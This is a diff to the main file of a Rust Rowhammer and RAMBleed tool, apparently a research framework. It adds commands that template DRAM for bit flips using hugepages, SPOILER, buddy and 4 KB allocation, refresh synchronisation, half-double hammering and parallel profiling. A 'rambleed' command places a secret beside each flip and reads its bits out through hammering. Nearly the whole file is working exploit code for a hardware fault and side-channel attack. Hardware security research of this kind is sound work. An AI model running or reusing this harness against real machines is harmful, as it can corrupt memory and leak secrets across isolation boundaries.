@@ -3,87 +3,111 @@
 
 mod alloc;
 mod architecture;
+mod buddy;
+mod calibrate;
 mod config;
+mod conflict;
+mod exhaust;
 mod hammer;
+mod hcfirst;
+mod hugepages;
 mod intelivy;
+mod jit;
 mod memmap;
+mod numa;
+mod parallel;
+mod phys;
 mod profile;
-use crate::alloc::reverse_mapping;
-use crate::profile::create_stats;
+mod refresh;
+mod runenv;
+mod spoiler;
+#[cfg(test)]
+mod testutil;
+mod thp;
+mod timing;
 use crate::alloc::virt_to_phys_pagemap;
-use crate::alloc::{alloc_1gb_hugepage, alloc_2mb_buddy, alloc_2mb_hugepage, contig_mem_diff};
-use crate::architecture::{Architecture, DramAddr};
+use crate::alloc::alloc_2mb_hugepage;
+use crate::alloc::{map_eager, strategy_by_name, strategy_page_size, unmap, AllocationStrategy, Pages4k, STRATEGY_NAMES};
+use crate::spoiler::{export_trace_csv, measure_spoiler, runs_from_trace};
+use crate::hugepages::{hugepages_command, HugePages};
+use crate::architecture::DramAddr;
+use crate::calibrate::{load_or_calibrate, same_bank_pairs, Calibration};
 use crate::config::Config;
-use crate::hammer::{hammer, reads_per_refresh};
+use crate::conflict::{export_histogram_csv, export_timings_csv, measure_pairs, ConflictOracle};
+use crate::hammer::{hammer_config, select_kernel, HammerAmount, HammerKernel};
+use crate::hcfirst::{export_hc_csv, hc_first_ranges};
 use crate::intelivy::IntelIvy;
-use crate::memmap::{offset_to_dram, DramRange, MemMap};
-use crate::profile::profile_ranges;
+use crate::memmap::MemMap;
+use crate::numa::{node_cpus, OnNode};
+use crate::parallel::template_parallel;
+use crate::profile::{profile_distance, profile_row, Aggression};
 use crate::profile::Direction::{From0To1, From1To0};
-use crate::profile::{profile_addr, Flip};
-use vm_info::page_size;
-use std::collections::{HashMap, HashSet};
-
-const _READ_MULTIPLICATOR: usize = 2;
-
-// place the secret at buf + offset by unmapping part of buf
+use crate::profile::Flip;
+use crate::refresh::{detect_cadence, latency_trace, measure_refresh};
+use crate::runenv::{prepare_run, RunOptions};
+use crate::timing::timer;
+
+const READ_MULTIPLICATOR: usize = 2;
+const KERNEL_SELECT_READS: usize = 1_000_000;
+const SYNC_TRACE_SAMPLES: usize = 200_000;
+const THRESHOLD_PAIRS: usize = 5000;
+const SPOILER_BUFFER: usize = 256 << 20;
+const SCATTERED_BUFFER: usize = 64 << 20;
+const DEFAULT_THREADS: usize = 4;
+const DEFAULT_DISTANCE: u16 = 2;
+const DEFAULT_NEAR_RATIO: f64 = 0.05;
+
+const USAGE: &str = "usage: rambleed-rs [command]
+  template [--reserve] [--alloc strategy]
+                    profile a 2 MB buffer (default), --reserve grows the node 0 huge page pool for the run
+                    strategy is auto (default), hugetlb-2m, hugetlb-1g, thp, spoiler or buddy
+  sync              profile unsynchronized and synchronized to refresh commands
+  nodes [--reserve] [--alloc strategy]
+                    profile every NUMA node in turn, --reserve grows each node's huge page pool for the run
+  parallel [n]      profile all banks on up to n pinned threads
+  hcfirst           search the minimum hammer count of every row, written to hc_first_*.csv
+  half-double [k] [ratio]
+                    hammer rows at distance k, with ratio as many reads of the near rows
+  conflict-threshold
+                    measure the row conflict threshold, written to timings.csv and histogram.csv
+  spoiler           find contiguous memory with SPOILER, the trace is written to spoiler_trace.csv
+  template-4k       profile 64 MB of scattered 4 KB pages, needs root for pagemap
+  rambleed          profile a 2 MB buffer and read a secret placed next to each flip
+  hugepages ...     show or reserve huge page pools
+options, after the command arguments:
+  --reads n         hammer n loop iterations
+  --activations n   hammer until each aggressor was activated n times
+  --budget-us n     hammer for n microseconds
+  --windows n       hammer for n refresh periods (default 2)";
+
+// place the secret at da and keep the byte out of further profiling
 fn place_secret(buf: &mut MemMap, da: &DramAddr, c: &Config) -> Result<(), String> {
-    // place the secret at buf + offset by unmapping part of buf
-    // POC here
-    *buf.at_dram(da, c) = 0xff;
-    //let dram_secret = offset_to_dram(offset, c);
-    let remove_range = unimplemented!();
-    // remove address from the row
-    //let row_ranges = buf.same_row_ranges(&dram_secret);
-    //    let mut row_ranges_new = Vec::new();
-    //    for r in row_ranges {
-    //        let start_offset = c.arch.dram_to_phys(&r.start.clone());
-    //        if start_offset < offset && offset >= start_offset + r.bytes {
-    //            row_ranges_new.push(r.clone());
-    //        } else {
-    //            let r1 = DramRange { start: r.start.clone(), bytes: start_offset - offset };
-    //            if r1.bytes > 0 {
-    //                row_ranges_new.push(r1);
-    //            }
-    //            let r2 = DramRange {
-    //                start: offset_to_dram(offset + 1, c),
-    //                bytes: r.bytes - (start_offset - offset) - 1,
-    //            };
-    //            if r2.bytes > 0 {
-    //                row_ranges_new.push(r2);
-    //            }
-    //        }
-    //    }
-
-    //buf.range_map.insert(dram_secret.to_row_index(),
-    //
-    //                     row_ranges_new);
-    buf.remove_range(remove_range);
+    let off = buf.dram_to_offset(da, c).ok_or_else(|| format!("{:?} is not mapped", da))?;
+    buf[off] = 0xff;
+    buf.exclude(off, 1, c);
+    println!("Secret at {}, excluded from its row: {:?}", buf.describe_phys(off), buf.excluded_ranges(da));
     Ok(())
 }
 
-// find an address in the row as buf + offset that is mapped in buf
-fn same_row_addr(buf: &MemMap, da: DramAddr, c: &Config) -> Option<DramAddr> {
-    //let offset_aligned = offset - offset % page_size().unwrap_or(4096);
-    let ranges = buf.same_row_ranges(&da);
-    if let Some (r) = ranges.get(0) {
-        Some(r.start.clone())
-    } else {
-        None
-    }
+// find an address in the row of da that is mapped in buf
+fn same_row_addr(buf: &MemMap, da: DramAddr) -> Option<DramAddr> {
+    buf.row_ranges(&da).first().map(|r| r.start.clone())
 }
 
 fn read_sidechannel(mem: &mut MemMap, flip: &Flip, c: &Config) -> Option<bool> {
-    let &mut flip_byte = mem.at_dram(&flip.pos, c);//buf[flip.offset];
+    let &flip_byte = mem.get_dram(&flip.pos, c)?;
     let flip_bit = flip_byte & (1 << flip.pos.bit) != 0;
     // hammering makes the vulnerable bit equal its neighbors
     Some(flip_bit)
 }
 
 fn fill_victim(buf: &mut MemMap, flip: &Flip, c: &Config) {
-    *buf.at_dram(&flip.pos, c) = match flip.dir {
-        From0To1 => 0x00,
-        From1To0 => 0xff,
-    };
+    if let Some(b) = buf.get_dram_mut(&flip.pos, c) {
+        *b = match flip.dir {
+            From0To1 => 0x00,
+            From1To0 => 0xff,
+        };
+    }
 }
 
 // buf is 2MB-aligned
@@ -92,217 +116,363 @@ fn bool_exploit_flip(mem: &mut MemMap, flip: &Flip, c: &Config) -> Option<bool>
     let cell_below = flip.pos.row_below();
     place_secret(mem, &cell_above, c).expect("failed to place secret");
     place_secret(mem, &cell_below, c).expect("failed to place secret");
-    //let secret_above = offset_above(mem, flip.offset, c)?;
-    //let secret_below = offset_below(mem, flip.offset, c)?;
-    //place_secret(mem, align_page_offset(secret_above), c).ok()?;
-    //place_secret(mem, align_page_offset(secret_below), c).ok()?;
-    let aggressor_above = same_row_addr(mem, cell_above, c).expect("no address above exists");
-    let aggressor_below = same_row_addr(mem, cell_below, c).expect("no address below exists");
+    let aggressor_above = same_row_addr(mem, cell_above).expect("no address above exists");
+    let aggressor_below = same_row_addr(mem, cell_below).expect("no address below exists");
 
     //Fill flip address according to flip.dir
     fill_victim(mem, flip, c);
 
-    hammer(
-        mem.at_dram(&aggressor_above, c),
-        mem.at_dram(&aggressor_below, c),
-        c.reads_per_hammer,
-    );
+    let (a1, a2) = mem.aggressor_pair(&aggressor_above, &aggressor_below, c)?;
+    hammer_config(c, a1, a2, c.reads_per_hammer);
 
     read_sidechannel(mem, flip, c)
 }
 
-fn align_page_offset(offset: usize) -> usize {
-    let page_size = page_size().unwrap_or(4096);
-    offset - offset % page_size
-}
+fn template_2mb_contig(mem: &mut MemMap, c: &Config) -> Vec<Flip> {
+    let mut flips = vec![];
 
-// return offset of the address in the row above buf + offset
-fn offset_above(_buf: &MemMap, offset: usize, c: &Config) -> Option<usize> {
-    let mut dram_addr = offset_to_dram(offset, c);
-    if dram_addr.row == 0 {
-        return None;
+    for da in mem.rows_with_both_neighbours() {
+        let rs = mem.same_row_ranges(&da);
+        println!("(Chan {}, DIMM {}, Rank {}, Bank {}, Row {})", da.chan, da.dimm, da.rank, da.bank, da.row);
+
+        flips.append(&mut profile_row(mem, &da, &rs, c));
     }
-    dram_addr.row -= 1;
-    Some(c.arch.dram_to_phys(&dram_addr))
-}
 
-// return offset of the address in the row below buf + offset
-fn offset_below(_buf: &MemMap, offset: usize, c: &Config) -> Option<usize> {
-    let mut dram_addr = offset_to_dram(offset, c);
-    // TODO: return None if dram_addr.row = c.MAX_ROW?
-    //if dram_addr.row == unimplemented!() {
-    //    return None
-    //}
-    dram_addr.row += 1;
-    Some(c.arch.dram_to_phys(&dram_addr))
+    flips
 }
 
-fn template_dram_addr(mem: &mut MemMap, da: &DramAddr, c: &Config) -> Vec<Flip> {
-    let mut flips = vec![];
-    assert!(da.row != 0 && da.row != std::u16::MAX);
+// reserve grows the node 0 hugetlb pool for the run, it is restored afterwards
+// alloc names the allocation strategy, see alloc::strategy_by_name
+fn test_template(c: &mut Config, reserve: bool, alloc: &str) {
+    let mut meta = prepare_run(&RunOptions {
+        cpu: Some(0),
+        sched_fifo: false,
+    });
+
+    // without a hugetlb pool fall back to a transparent huge page, then to SPOILER
+    // the old pool size is restored when _pool drops
+    let _pool = if reserve {
+        HugePages::default()
+            .reserve(0, strategy_page_size(alloc), 1)
+            .map_err(|e| println!("Could not reserve a huge page: {}", e))
+            .ok()
+    } else {
+        None
+    };
 
+    let strategy = strategy_by_name(alloc).expect("unknown allocation strategy");
+    let allocation = strategy
+        .allocate(c)
+        .unwrap_or_else(|e| panic!("{} allocation failed: {}", strategy.name(), e));
+    let mut mem_attack = allocation.mem;
     println!(
-        "(Chan {}, DIMM {}, Rank {}, Bank {}, Row {})",
-        da.chan, da.dimm, da.rank, da.bank, da.row
+        "Allocated memory successfully at {:?} ({:?})",
+        (*mem_attack).as_ptr(),
+        allocation.contiguity
     );
+    meta.node = mem_attack.node();
+    if let Err(e) = meta.write("run_metadata.txt") {
+        println!("Failed to write run metadata: {}", e);
+    }
 
-    // 1 to 0
-    flips.append(profile_addr(mem, da, 0x00, c).as_mut());
-    flips.append(profile_addr(mem, da, 0xff, c).as_mut());
+    println!("Physical address: {}", mem_attack.describe_phys(0));
+    println!("Timer: {:?}", timer());
 
-    flips
+    setup_hammering(&mem_attack, c).expect("No row conflict pair found! Calibration failed");
+    let flips = template_2mb_contig(&mut mem_attack, c);
+    println!("Found flips:\n{:#?}", flips)
 }
 
-fn template_2mb_contig(mem: &mut MemMap, c: &Config) -> Vec<Flip> {
-    let mut flips = vec![];
+// profile the DIMMs of every NUMA node, with memory bound to the node and a cpu of the node
+fn test_template_nodes(c: &mut Config, reserve: bool, alloc: &str) {
+    let pools = HugePages::default();
+    for node in pools.nodes() {
+        let cpu = node_cpus(node).first().cloned();
+        let mut meta = prepare_run(&RunOptions { cpu, sched_fifo: false });
+
+        let _pool = if reserve {
+            pools
+                .reserve(node, strategy_page_size(alloc), 1)
+                .map_err(|e| println!("Could not reserve a huge page on node {}: {}", node, e))
+                .ok()
+        } else {
+            None
+        };
+        let strategy = OnNode {
+            node,
+            strategy: strategy_by_name(alloc).expect("unknown allocation strategy"),
+        };
+        let mut mem_attack = match strategy.allocate(c) {
+            Ok(a) => a.mem,
+            Err(e) => {
+                println!("Skipping node {}: {}", node, e);
+                continue;
+            }
+        };
+        meta.node = Some(node);
+        if let Err(e) = meta.write(&format!("run_metadata_node{}.txt", node)) {
+            println!("Failed to write run metadata: {}", e);
+        }
 
-    for (da, rs) in mem.get_ranges().clone() {
-        if da.row == 0 || da.row == std::u16::MAX {
+        if setup_hammering(&mem_attack, c).is_none() {
+            println!("Skipping node {}: no row conflict pair found", node);
             continue;
         }
-        println!("(Chan {}, DIMM {}, Rank {}, Bank {}, Row {})", da.chan, da.dimm, da.rank, da.bank, da.row);
-
-        let row_above = mem.same_row_ranges(&da.row_above());
-        let row_below = mem.same_row_ranges(&da.row_below());
 
-        let mut flips_above = profile_ranges(mem, &row_above, &row_below, &rs, 0x00, c);
-        let mut flips_below = profile_ranges(mem, &row_above, &row_below, &rs, 0xff, c);
-        flips.append(&mut flips_above);
-        flips.append(&mut flips_below);
+        let flips = template_2mb_contig(&mut mem_attack, c);
+        println!("Found flips on node {}:\n{:#?}", node, flips);
     }
-
-    flips
 }
 
-pub fn test_alloc(c: &Config) {
-    contig_mem_diff(c);
+// search the minimum hammer count of every vulnerable row, up to the configured amount
+fn test_hc_first(c: &mut Config) {
+    let mut mem_attack = alloc_2mb_hugepage(c).unwrap();
+
+    setup_hammering(&mem_attack, c).expect("No row conflict pair found! Calibration failed");
+
+    let rows = hc_first_ranges(&mut mem_attack, c.reads_per_hammer, c);
+    if let Err(e) = export_hc_csv(&rows, "hc_first") {
+        println!("Failed to export HC_first: {}", e);
+    }
 }
 
-pub fn test_template(c: &mut Config) {
+// profile with aggressors at distance k, the near rows get near_ratio of the far reads
+fn test_half_double(c: &mut Config, k: u16, near_ratio: f64) {
+    let mut mem_attack = alloc_2mb_hugepage(c).unwrap();
 
-    let mut mem_attack = alloc_2mb_hugepage(&c).unwrap();
+    setup_hammering(&mem_attack, c).expect("No row conflict pair found! Calibration failed");
+
+    let flips = profile_distance(&mut mem_attack, k, near_ratio, c);
+    let far = flips.iter().filter(|f| f.cause == Aggression::Far(k)).count();
+    let combined = flips.iter().filter(|f| f.cause == Aggression::HalfDouble(k)).count();
     println!(
-        "Allocated memory successfully at {:?}",
-        (*mem_attack).as_ptr()
+        "Flips from distance {}: {}, from near rows: {}, only combined: {}",
+        k,
+        far,
+        flips.len() - far - combined,
+        combined
     );
+}
+
+// measure the row conflict threshold and export the latency histogram
+fn test_conflict_threshold(c: &Config) {
+    let mem_attack = alloc_2mb_hugepage(c).unwrap();
+
+    let timings = measure_pairs(&mem_attack, THRESHOLD_PAIRS, c);
+    match ConflictOracle::from_timings(&timings) {
+        Some(o) => println!("Row conflict threshold: {} cycles", o.threshold),
+        None => println!("Failed to separate row conflicts"),
+    }
+    if let Err(e) = export_timings_csv(&timings, "timings.csv")
+        .and_then(|_| export_histogram_csv(&timings, "histogram.csv"))
+    {
+        println!("Failed to export timings: {}", e);
+    }
+}
 
-    let start_p = virt_to_phys_pagemap(mem_attack.as_ptr()).unwrap_or(std::usize::MAX);
-    println!("Physical address: {:p}", start_p as *const usize);
+fn test_spoiler(c: &Config) {
+    let (buf, len) = map_eager(SPOILER_BUFFER).expect("Failed to map SPOILER buffer");
+    let probe = vec![0u8; 4096];
+    let trace = measure_spoiler(buf, len, probe.as_ptr());
+    if let Err(e) = export_trace_csv(&trace, "spoiler_trace.csv") {
+        println!("Failed to export trace: {}", e);
+    }
+
+    for run in runs_from_trace(buf, &trace, 1, c) {
+        let phys = virt_to_phys_pagemap(run.mem.as_ptr());
+        println!("Contiguous run of {} MB at page {} (physical {:X?})", run.mbs, run.start_page, phys);
+    }
+    unmap(buf, len);
+}
 
-    c.reads_per_hammer = calibrate(&mem_attack, c);
+// profile ordinary 4 KB pages, placed in DRAM page by page with pagemap
+fn test_template_4k(c: &mut Config) {
+    let strategy = Pages4k { bytes: SCATTERED_BUFFER };
+    let allocation = strategy
+        .allocate(c)
+        .unwrap_or_else(|e| panic!("{} allocation failed: {}", strategy.name(), e));
+    let mut mem_attack = allocation.mem;
     println!(
-        "Calibrated to {} iterations per hammering",
-        c.reads_per_hammer
+        "Mapped {} rows, {} pages without translation",
+        mem_attack.rows().len(),
+        mem_attack.unresolved_pages()
     );
-    let flips = template_2mb_contig(&mut mem_attack, &c);
+
+    setup_hammering(&mem_attack, c).expect("No row conflict pair found! Calibration failed");
+
+    let flips = template_2mb_contig(&mut mem_attack, c);
     println!("Found flips:\n{:#?}", flips)
 }
 
-pub fn test_rambleed() {
-    let c: Config = Config {
-        aligned_bits: 20,
-        reads_per_hammer: 100,
-        contiguous_dram_addr: 0,
-        arch: Box::new(IntelIvy {
-            dual_channel: false,
-            dual_dimm: false,
-            dual_rank: true,
-        }),
-    };
+// like test_template, but profiles all banks in parallel
+fn test_template_parallel(c: &mut Config, threads: usize) {
+    let mut mem_attack = alloc_2mb_hugepage(c).unwrap();
+
+    setup_hammering(&mem_attack, c).expect("No row conflict pair found! Calibration failed");
 
-    let mut mem_attack = alloc_2mb_hugepage(&c).unwrap();
-    let flips = template_2mb_contig(&mut mem_attack, &c);
+    let flips = template_parallel(&mut mem_attack, c, threads);
+    println!("Found flips:\n{:#?}", flips)
+}
+
+// template a 2 MB buffer, then read a secret placed next to each flip
+fn test_rambleed(c: &mut Config) {
+    let mut mem_attack = alloc_2mb_hugepage(c).unwrap();
+    setup_hammering(&mem_attack, c).expect("No row conflict pair found! Calibration failed");
+
+    let flips = template_2mb_contig(&mut mem_attack, c);
     for f in flips {
-        let val = bool_exploit_flip(&mut mem_attack, &f, &c);
+        let val = bool_exploit_flip(&mut mem_attack, &f, c);
         println!("Secret value is {:?}", val);
     }
 }
 
-fn row_conflict_pair(mem: &MemMap) -> Option<(DramAddr, DramAddr)> {
-    for (da1, a1s) in mem.get_ranges().iter() {
-        let a1 = a1s.get(0);
-        let a2: Option<&DramRange> = mem
-            .get_ranges()
-            .iter()
-            .filter(|(da2, a2s)| {
-                da1.chan == da2.chan
-                    && da1.dimm == da2.dimm
-                    && da1.rank == da2.rank
-                    && da1.bank == da2.bank
-                    && da1.row != da2.row
-                    && !a2s.is_empty()
-            })
-            .map(|(_, a2s)| &a2s[0])
-            .next();
-
-        match (a1, a2) {
-            (None, _) => continue,
-            (_, None) => continue,
-            (Some(a1), Some(a2)) => return Some((a1.start.clone(), a2.start.clone())),
-        }
-    }
+// run the same profile unsynchronized and synchronized to refresh commands
+fn test_sync(c: &mut Config) {
+    let mut mem_attack = alloc_2mb_hugepage(c).unwrap();
+    let (a1, a2) = same_bank_pairs(&mem_attack, 1)
+        .pop()
+        .expect("No row conflict pair found! Synchronization failed");
+    let (p1, p2) = mem_attack.aggressor_pair(&a1, &a2, c).expect("Row conflict pair is not mapped");
+    let trace = latency_trace(p1.as_ptr(), p2.as_ptr(), SYNC_TRACE_SAMPLES);
+    let cadence = detect_cadence(&trace).expect("No refresh cadence detected");
+    println!("Refresh cadence: {:?}", cadence);
+    setup_hammering(&mem_attack, c).expect("Calibration failed");
+
+    c.ref_sync = None;
+    let unsynced = template_2mb_contig(&mut mem_attack, c);
+    c.ref_sync = Some(cadence);
+    let synced = template_2mb_contig(&mut mem_attack, c);
+    c.ref_sync = None;
 
-    None
+    println!(
+        "Flips unsynchronized: {}, synchronized: {}",
+        unsynced.len(),
+        synced.len()
+    );
 }
 
-fn calibrate(mem: &MemMap, c: & Config) -> usize {
-    let a = &c.arch;
-    let (a1, a2) = row_conflict_pair(mem).expect("No row conflict pair found! Calibration failed");
-    let a1 = mem.offset(a.dram_to_phys(&a1));
-    let a2 = mem.offset(a.dram_to_phys(&a2));
-    2 * reads_per_refresh(a1, a2, a.refresh_period())
-}
+// measure the refresh period, pick the hammer kernel and calibrate c.amount for mem
+// every command hammering with c goes through this, None without a row conflict pair
+fn setup_hammering(mem: &MemMap, c: &mut Config) -> Option<Calibration> {
+    c.refresh_period_us = detect_refresh_period(mem, c);
+    println!("Using refresh period of {} us", c.refresh_period());
 
-fn test_stats(c : &Config) {
-    let mut mem_attack = alloc_2mb_hugepage(&c).expect("Failed to allocate memory using hugepages");
-
-    let addr = DramAddr {
-        chan: 0,
-        dimm: 0,
-        rank: 1,
-        bank: 1,
-        row: 7,
-        col: 731,
-        byte: 0,
-        bit: 6,
-    };
+    c.kernel = select_hammer_kernel(mem, c);
+    println!("Selected hammer kernel {:?}", c.kernel);
 
-    let mut flips = template_dram_addr(&mut mem_attack, &addr, &c);
+    let cal = load_or_calibrate(mem, c)?;
+    println!(
+        "{:.0} +- {:.0} activations per aggressor and refresh window ({} samples, {} rejected)",
+        cal.activations_per_refresh, cal.ci95, cal.samples, cal.rejected
+    );
+    c.reads_per_hammer = c.amount.to_reads(cal.reads_per_us(), c.refresh_period());
+    println!(
+        "Calibrated {:?} to {} iterations per hammering",
+        c.amount, c.reads_per_hammer
+    );
+    Some(cal)
+}
 
-    println!("Found the following flips {:?}", flips);
+// measure the refresh period, None keeps the architecture default
+fn detect_refresh_period(mem: &MemMap, c: &Config) -> Option<usize> {
+    let (a1, a2) = same_bank_pairs(mem, 1).pop()?;
+    let (a1, a2) = mem.aggressor_pair(&a1, &a2, c)?;
+    let t = measure_refresh(a1.as_ptr(), a2.as_ptr())?;
     println!(
-        "Flips as DRAM: {:?}",
-        flips
+        "Detected tREFI of {:.0} ns from {} spikes, refresh period {} us",
+        t.trefi_ns, t.spikes, t.refresh_period_us
     );
+    Some(t.refresh_period_us)
+}
 
-    for f in flips.iter_mut() {
-        create_stats(&mut mem_attack, f, &c);
-        println!("{:#?}", f);
-    }
+// pick the fastest hammer kernel that still causes row conflicts on this CPU
+fn select_hammer_kernel(mem: &MemMap, c: &Config) -> HammerKernel {
+    let (a1, a2) = match mem.any_same_bank_pair() {
+        Some(p) => p,
+        None => return c.kernel,
+    };
+    // second cache line in the row of a1 to measure row buffer hits
+    let h = match mem.same_row_ranges(&a1).into_iter().find(|r| r.bytes >= 128) {
+        Some(r) => match mem.aggressor(&r.start, c) {
+            Some(h) => h.as_ptr(),
+            None => return c.kernel,
+        },
+        None => return c.kernel,
+    };
+    let (a1, a2) = match mem.aggressor_pair(&a1, &a2, c) {
+        Some(p) => p,
+        None => return c.kernel,
+    };
+
+    select_kernel(a1.as_ptr(), a2.as_ptr(), h, h.wrapping_add(64), KERNEL_SELECT_READS)
+        .map(|r| r.kernel)
+        .unwrap_or(c.kernel)
 }
 
 fn main() {
+    let args: Vec<String> = std::env::args().collect();
+    if args.get(1).map(|a| a.as_str()) == Some("hugepages") {
+        if let Err(e) = hugepages_command(&args[2..]) {
+            println!("{}", e);
+            std::process::exit(1);
+        }
+        return;
+    }
+
     let arch = IntelIvy {
         dual_channel: false,
         dual_dimm: false,
         dual_rank: true,
     };
 
+    let amount = match HammerAmount::from_args(&args[1..]) {
+        Ok(a) => a.unwrap_or(HammerAmount::RefreshWindows(READ_MULTIPLICATOR)),
+        Err(e) => {
+            println!("{}\n{}", e, USAGE);
+            std::process::exit(1);
+        }
+    };
+
+    let alloc = match args.iter().position(|a| a == "--alloc") {
+        Some(i) => args.get(i + 1).map_or("", |a| a.as_str()),
+        None => "auto",
+    };
+    if !STRATEGY_NAMES.contains(&alloc) {
+        println!("unknown allocation strategy {:?}\n{}", alloc, USAGE);
+        std::process::exit(1);
+    }
+
     let mut c: Config = Config {
-        aligned_bits: 20,
         reads_per_hammer: 0,
+        amount,
+        kernel: HammerKernel::Clflush,
         contiguous_dram_addr: 1 << 12,
         arch: Box::new(arch.clone()),
+        refresh_period_us: None,
+        ref_sync: None,
     };
 
-    test_template(&mut c);
-
-    // Test timing attack by Schwarz
-    //let mut mem_attack = alloc_2mb_hugepage(&c).expect("Failed to allocate memory using hugepages");
-    //let off = reverse_mapping(&c, mem_attack.as_mut_ptr());
-    //println!("Page offset to 2 mb: {:?}", off);
-
-    // Test exploit of buddy allocator
-    //contig_mem_diff(&c);
-
+    match args.get(1).map(|a| a.as_str()) {
+        None | Some("template") => test_template(&mut c, args.iter().any(|a| a == "--reserve"), alloc),
+        Some("sync") => test_sync(&mut c),
+        Some("nodes") => test_template_nodes(&mut c, args.iter().any(|a| a == "--reserve"), alloc),
+        Some("parallel") => {
+            let threads = args.get(2).and_then(|t| t.parse().ok()).unwrap_or(DEFAULT_THREADS);
+            test_template_parallel(&mut c, threads)
+        }
+        Some("hcfirst") => test_hc_first(&mut c),
+        Some("half-double") => {
+            let k = args.get(2).and_then(|k| k.parse().ok()).unwrap_or(DEFAULT_DISTANCE);
+            let near_ratio = args.get(3).and_then(|r| r.parse().ok()).unwrap_or(DEFAULT_NEAR_RATIO);
+            test_half_double(&mut c, k, near_ratio)
+        }
+        Some("conflict-threshold") => test_conflict_threshold(&c),
+        Some("spoiler") => test_spoiler(&c),
+        Some("template-4k") => test_template_4k(&mut c),
+        Some("rambleed") => test_rambleed(&mut c),
+        Some(cmd) => {
+            println!("unknown command {}\n{}", cmd, USAGE);
+            std::process::exit(1);
+        }
+    }
 }